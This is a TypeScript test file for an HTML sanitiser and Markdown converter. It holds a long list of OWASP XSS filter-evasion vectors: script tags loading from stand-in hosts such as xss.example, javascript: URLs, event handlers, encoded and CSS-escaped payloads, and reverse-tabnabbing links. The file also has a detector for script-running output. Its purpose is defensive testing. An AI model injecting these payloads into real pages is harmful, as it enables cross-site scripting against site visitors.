// @vitest-environment jsdom
import { describe, expect, it } from 'vitest';
import { markdownToHtml } from '../domain/markdown.ts';
import { SANITIZE_CASES } from './sanitize-cases.ts';
import { sanitizeHtml } from './sanitize.ts';

/**
 * Vectors from the OWASP XSS Filter Evasion Cheat Sheet (and a few Markdown-specific ones).
 * None may survive as a script element, an event handler or a script-running URL.
 */
const VECTORS = [
  '<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>',
  `javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+alert(1)//'>`,
  '<IMG SRC="javascript:alert(\'XSS\');">',
  "<IMG SRC=javascript:alert('XSS')>",
  "<IMG SRC=JaVaScRiPt:alert('XSS')>",
  '<IMG SRC=`javascript:alert("RSnake says, \'XSS\'")`>',
  '<a onmouseover="alert(document.cookie)">xxs link</a>',
  '<a onmouseover=alert(document.cookie)>xxs link</a>',
  '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
  '<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>',
  '<IMG SRC=# onmouseover="alert(\'xxs\')">',
  '<IMG SRC= onmouseover="alert(\'xxs\')">',
  '<IMG onmouseover="alert(\'xxs\')">',
  '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
  '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">',
  '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>',
  '<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041>',
  '<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>',
  '<IMG SRC="jav\tascript:alert(\'XSS\');">',
  '<IMG SRC="jav&#x09;ascript:alert(\'XSS\');">',
  '<IMG SRC="jav&#x0A;ascript:alert(\'XSS\');">',
  '<IMG SRC="jav&#x0D;ascript:alert(\'XSS\');">',
  '<IMG SRC=" &#14;  javascript:alert(\'XSS\');">',
  '<SCRIPT/XSS SRC="http://xss.example/xss.js"></SCRIPT>',
  '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
  '<SCRIPT/SRC="http://xss.example/xss.js"></SCRIPT>',
  '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
  '<SCRIPT SRC=http://xss.example/xss.js?< B >',
  '<SCRIPT SRC=//xss.example/.j>',
  '<IMG SRC="`<javascript:alert>`(\'XSS\')"',
  '<iframe src=http://xss.example/scriptlet.html <',
  '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
  '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
  '<BODY BACKGROUND="javascript:alert(\'XSS\')">',
  '<IMG DYNSRC="javascript:alert(\'XSS\')">',
  '<IMG LOWSRC="javascript:alert(\'XSS\')">',
  '<STYLE>li {list-style-image: url("javascript:alert(\'XSS\')");}</STYLE><UL><LI>XSS</br>',
  '<IMG SRC=\'vbscript:msgbox("XSS")\'>',
  "<svg/onload=alert('XSS')>",
  "<BODY ONLOAD=alert('XSS')>",
  '<BGSOUND SRC="javascript:alert(\'XSS\');">',
  '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">',
  "<STYLE>@import'http://xss.example/xss.css';</STYLE>",
  '<META HTTP-EQUIV="Link" Content="<http://xss.example/xss.css>; REL=stylesheet">',
  '<IMG STYLE="xss:expr/*XSS*/ession(alert(\'XSS\'))">',
  '<div style="background-image: url(javascript:alert(\'XSS\'))">',
  '<div style="width: expression(alert(\'XSS\'));">',
  '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
  '<IFRAME SRC="javascript:alert(\'XSS\');"></IFRAME>',
  '<FRAMESET><FRAME SRC="javascript:alert(\'XSS\');"></FRAMESET>',
  '<TABLE BACKGROUND="javascript:alert(\'XSS\')">',
  '<TABLE><TD BACKGROUND="javascript:alert(\'XSS\')">',
  '<DIV STYLE="background-image: url(javascript:alert(\'XSS\'))">',
  '<DIV STYLE="background-image:\\0075\\0072\\006C\\0028\'\\006a\\0061\\0076\\0061\\0073\\0063\\0072\\0069\\0070\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028.1027\\0058.1053\\0053\\0027\\0029\'\\0029">',
  '<BASE HREF="javascript:alert(\'XSS\');//">',
  '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.example/scriptlet.html"></OBJECT>',
  '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwvc3ZnPg==" type="image/svg+xml" AllowScriptAccess="always"></EMBED>',
  '<a href="javascript:alert(1)">click</a>',
  '<a href="  javascript:alert(1)">click</a>',
  '<a href="java&#115;cript:alert(1)">click</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>',
  '<a href="vbscript:msgbox(1)">click</a>',
  '<form action="javascript:alert(1)"><button formaction="javascript:alert(1)">go</button></form>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror="alert(1)">',
  // Markdown-specific: links, images and autolinks with script URLs, raw HTML inside Markdown.
  '[click](javascript:alert(1))',
  '[click](JAVASCRIPT:alert(1))',
  '[click](javascript&#58;alert(1))',
  '![x](javascript:alert(1))',
  '![x](x" onerror="alert(1))',
  '<javascript:alert(1)>',
  '# Heading <img src=x onerror=alert(1)>',
  '> quote <script>alert(1)</script>',
  '**bold** <a href="javascript:alert(1)" onclick="alert(2)">x</a>',
  // Inline styles past a blocklist: CSS escapes, other fetching functions, page overlays.
  '<div style="background:\\75 rl(javascript:alert(1))">x</div>',
  '<div style="background-image:\\000075\\000072\\00006C(https://evil.example/t.png)">x</div>',
  `<div style="background-image:image-set('https://evil.example/t.png' 1x)">x</div>`,
  '<div style="position:absolute;top:0;left:0;width:100%;height:100%">x</div>',
  '<div style="position : fixed; inset: 0">x</div>',
  '<p style="color:red;background:url(https://evil.example/t.png)">x</p>',
  '<p style="color:red/**/;content:url(https://evil.example/t.png)">x</p>',
  // Links that hand the opener to the page they open (reverse tabnabbing), or reuse a named
  // window another site can also target.
  '<a href="https://evil.example/" target="_BLANK" rel="opener">x</a>',
  '<a href="https://evil.example/" target="evil">x</a>',
  '<a href="https://evil.example/" target=" _blank">x</a>',
  '<a href="https://evil.example/" target="_blank" rel="noopener opener">x</a>',
  '[x](https://evil.example/) <a href="https://evil.example/" target="_top" rel="opener">y</a>',
];

const SCRIPT_URL = /^(?:javascript|vbscript|data:text\/html|livescript)/i;
/** CSS that fetches, escapes (and so hides a fetch) or lays itself over the page. */
const UNSAFE_CSS =
  /\\|url\s*\(|image-set|image\s*\(|expression|javascript:|@import|position|binding/i;
const URL_ATTRS = ['href', 'src', 'action', 'formaction', 'xlink:href', 'background', 'data'];

/** Everything that could run script in sanitised HTML, as found by a browser's own parser. */
function dangers(html: string): string[] {
  const template = document.createElement('template');
  template.innerHTML = html;
  const found: string[] = [];
  for (const el of template.content.querySelectorAll('*')) {
    const tag = el.tagName.toLowerCase();
    if (
      [
        'script',
        'iframe',
        'object',
        'embed',
        'form',
        'input',
        'button',
        'style',
        'base',
        'meta',
        'link',
        'svg',
        'math',
        'frame',
        'frameset',
      ].includes(tag)
    ) {
      found.push(`<${tag}>`);
    }
    for (const attr of el.attributes) {
      const name = attr.name.toLowerCase();
      if (name.startsWith('on')) found.push(`${tag}[${name}]`);
      // Browsers strip control characters and spaces inside a URL's scheme.
      // eslint-disable-next-line no-control-regex -- control characters are exactly what browsers drop
      const value = attr.value.replace(/[\u0000-\u0020]/g, '');
      if (URL_ATTRS.includes(name) && SCRIPT_URL.test(value))
        found.push(`${tag}[${name}=${attr.value}]`);
      if (name === 'style' && UNSAFE_CSS.test(attr.value)) found.push(`${tag}[style]`);
    }
    // A link may open a new tab only as `_blank` without the opener; no other target, no rel
    // that grants the opener.
    const target = el.getAttribute('target');
    const rel = (el.getAttribute('rel') ?? '').toLowerCase().split(/\s+/);
    if (target !== null && target !== '_blank') found.push(`${tag}[target=${target}]`);
    if (target !== null && !(rel.includes('noopener') && rel.includes('noreferrer')))
      found.push(`${tag}[target] without rel="noopener noreferrer"`);
    if (rel.includes('opener')) found.push(`${tag}[rel=opener]`);
  }
  return found;
}

describe('sanitizeHtml against OWASP filter-evasion vectors', () => {
  it.each(VECTORS)('leaves nothing that runs script: %s', (vector) => {
    expect(dangers(sanitizeHtml(vector))).toEqual([]);
    expect(dangers(sanitizeHtml(markdownToHtml(vector)))).toEqual([]);
  });

  it('the checker itself finds each kind of danger', () => {
    expect(dangers('<script>x</script>')).toEqual(['<script>']);
    expect(dangers('<img src=x onerror=1>')).toEqual(['img[onerror]']);
    expect(dangers('<a href=" java\tscript:1">x</a>')).toHaveLength(1);
    expect(dangers('<div style="background:url(x)"></div>')).toEqual(['div[style]']);
    expect(dangers('<div style="background:\\75 rl(x)"></div>')).toEqual(['div[style]']);
    expect(dangers('<div style="position:absolute"></div>')).toEqual(['div[style]']);
    expect(dangers('<a target="evil" rel="noopener noreferrer">x</a>')).toEqual(['a[target=evil]']);
    expect(dangers('<a target="_blank">x</a>')).toEqual([
      'a[target] without rel="noopener noreferrer"',
    ]);
    expect(dangers('<a rel="opener">x</a>')).toEqual(['a[rel=opener]']);
  });
});

describe('sanitizeHtml keeps what editors write', () => {
  it('keeps the allowed tags and attributes', () => {
    const html =
      '<h2 class="t">T</h2><p style="text-align: center">a <strong>b</strong> <em>c</em> <u>d</u> <code>e</code></p><ul><li>f</li></ul><blockquote>g</blockquote><pre><code>h</code></pre><img src="https://img.example/a.png" alt="A" title="T">';
    expect(sanitizeHtml(html)).toBe(html);
  });

  it('keeps inline styles that colour, align and emphasise text, and drops the rest', () => {
    const kept =
      'color: #c00; background-color: rgb(255, 240, 200); text-align: center; font-weight: bold; font-style: italic; text-decoration: underline';
    expect(sanitizeHtml(`<p style="${kept}">x</p>`)).toBe(`<p style="${kept}">x</p>`);
    expect(sanitizeHtml('<p style="COLOR:Red;width:100px;font-weight:700">x</p>')).toBe(
      '<p style="color: Red; font-weight: 700">x</p>',
    );
    expect(sanitizeHtml('<p style="width:100px">x</p>')).toBe('<p>x</p>');
  });

  it.each([
    'https://a.example/',
    'http://a.example/',
    'ftp://a.example/',
    'mailto:a@b.example',
    'tel:+441234',
    'callto:x',
    'cid:x',
    'xmpp:a@b.example',
    '/essays/x',
    '#top',
  ])('keeps links to %s', (href) => {
    expect(sanitizeHtml(`<a href="${href}">x</a>`)).toBe(`<a href="${href}">x</a>`);
  });

  it('drops forbidden tags and attributes but keeps their text', () => {
    expect(sanitizeHtml('<p onclick="x()">hi</p><button>press</button>')).toBe('<p>hi</p>press');
    expect(sanitizeHtml('<table><tr><td>cell</td></tr></table>')).toBe('cell');
  });

  it('gives new-tab links rel="noopener noreferrer"', () => {
    expect(sanitizeHtml('<a href="https://a.example/" target="_blank">x</a>')).toBe(
      '<a href="https://a.example/" target="_blank" rel="noopener noreferrer">x</a>',
    );
  });

  it('keeps a target only when it is _blank, in any case, and replaces the rel an author wrote', () => {
    expect(sanitizeHtml('<a href="https://a.example/" target="_BLANK" rel="opener">x</a>')).toBe(
      '<a href="https://a.example/" target="_blank" rel="noopener noreferrer">x</a>',
    );
    expect(sanitizeHtml('<a href="https://a.example/" target="evil">x</a>')).toBe(
      '<a href="https://a.example/">x</a>',
    );
    expect(sanitizeHtml('<a href="https://a.example/" target="_self">x</a>')).toBe(
      '<a href="https://a.example/">x</a>',
    );
    expect(sanitizeHtml('<a href="https://a.example/" rel="nofollow opener">x</a>')).toBe(
      '<a href="https://a.example/">x</a>',
    );
    expect(sanitizeHtml('<p target="_blank">x</p>')).toBe('<p>x</p>');
  });
});

describe('markdownToHtml', () => {
  it("keeps an author's ## as h2 and deeper levels as written; # is h2 too (the title is the h1)", () => {
    expect(markdownToHtml('# One')).toBe('<h2>One</h2>\n');
    expect(markdownToHtml('## Section')).toBe('<h2>Section</h2>\n');
    expect(markdownToHtml('### Three')).toBe('<h3>Three</h3>\n');
    expect(markdownToHtml('##### Five')).toBe('<h5>Five</h5>\n');
    expect(markdownToHtml('###### Six')).toBe('<h6>Six</h6>\n');
  });

  it('splits paragraphs on blank lines and converts light markdown', () => {
    const html = markdownToHtml('**bold** *it* `code` [link](https://a.example/)\n\nnext');
    expect(html).toBe(
      '<p><strong>bold</strong> <em>it</em> <code>code</code> <a href="https://a.example/">link</a></p>\n<p>next</p>\n',
    );
  });
});

describe('the shared cases (the Cloud Functions assert the same outputs)', () => {
  it.each(SANITIZE_CASES)('%s', (input, output) => {
    expect(sanitizeHtml(input)).toBe(output);
  });
});
